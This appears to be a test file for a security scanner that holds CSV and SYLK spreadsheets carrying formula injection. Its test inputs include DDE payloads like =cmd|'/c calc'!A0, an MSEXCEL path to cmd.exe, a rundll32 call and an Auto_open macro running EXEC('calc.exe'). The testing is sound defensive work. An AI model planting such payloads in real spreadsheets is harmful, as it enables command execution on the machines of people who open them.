import { expect, test } from 'vitest';
import { allow } from '../../../../shared/model/verdict.ts';
import { inspecting, told } from '../inspecting.ts';

test.each([
  ["=cmd|'/c calc'!A0"],
  ["name,=cmd|'/c calc'!A0,x"],
  ['"=cmd|\'/c calc\'!A0"'],
  ["@SUM(1+1)*cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0"],
  ["=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"],
  ["a;=rundll32|'URL.dll,OpenURL calc.exe'!A"],
  ['=10+20+cmd|foo!A0'],
])('a formula of a table that starts a program is held: %s', (line) => {
  const judgement = inspecting(`name,value\r\n${line}\r\n`, 'a.csv');
  expect(told(judgement)).toEqual(['document.formula-runs 2']);
  expect(judgement.verdict.level).toBe('hold');
});

test('ordinary tables are clean, formulas and bars too', () => {
  const table =
    'name,value\r\n-5,+3\r\n=A1+B2,x\r\n"a|b","-c|d"\r\n- first|second\r\n@home,=IF(A1>0;"a|b";"c")\r\n';
  expect(inspecting(table, 'a.csv').verdict).toEqual(allow);
});

test.each([
  ['a sound file', 'ID3,1'],
  ['a picture', '8BPS,1'],
  ['a mail', 'MIME-Version: 1.0'],
  ['a document', '{\\rtf1 }'],
  ['a page', '<html><table>'],
])('a table that begins as %s is read as one', (_, start) => {
  const judgement = inspecting(`${start}\r\n=cmd|'/c calc'!A0\r\n`, 'a.csv');
  expect(told(judgement)).toContain('document.formula-runs 2');
});

test('links and fetching formulas of a table are judged', () => {
  const asked: string[] = [];
  const judgement = inspecting(
    '=HYPERLINK("https://one.test/","x")\n=WEBSERVICE("https://two.test/"&A1)\n',
    'a.csv',
    {
      link: (url) => {
        asked.push(url);
        return allow;
      },
    },
  );
  expect(asked).toEqual(['https://one.test/']);
  expect(told(judgement)).toEqual(['document.remote-part 2']);
});

test('a symbolic link file with macros is held', () => {
  const lines = [
    'ID;P',
    'O;E',
    'NN;NAuto_open;ER101C1;KOut Flank;F',
    'C;X1;Y101;K0;EEXEC("calc.exe")',
    'C;X1;Y102;K0;EHALT()',
    'E',
    '',
  ];
  const judgement = inspecting(lines.join('\r\n'), 'a.slk');
  expect(judgement.verdict.reasons[0]).toMatchObject({
    code: 'document.macro-sheet-dangerous',
    level: 'hold',
    params: { starts: 'Auto_open', does: 'EXEC' },
  });
  expect(
    told(inspecting("ID;P\r\nC;X1;Y1;K0;EMSEXCEL|'\\..\\cmd.exe /c calc'!''\r\nE\r\n", 'a.slk')),
  ).toEqual(['document.formula-runs']);
  expect(inspecting('ID;P\r\nC;X1;Y1;K5;EA1+2\r\nE\r\n', 'a.slk').verdict.level).toBe('allow');
});
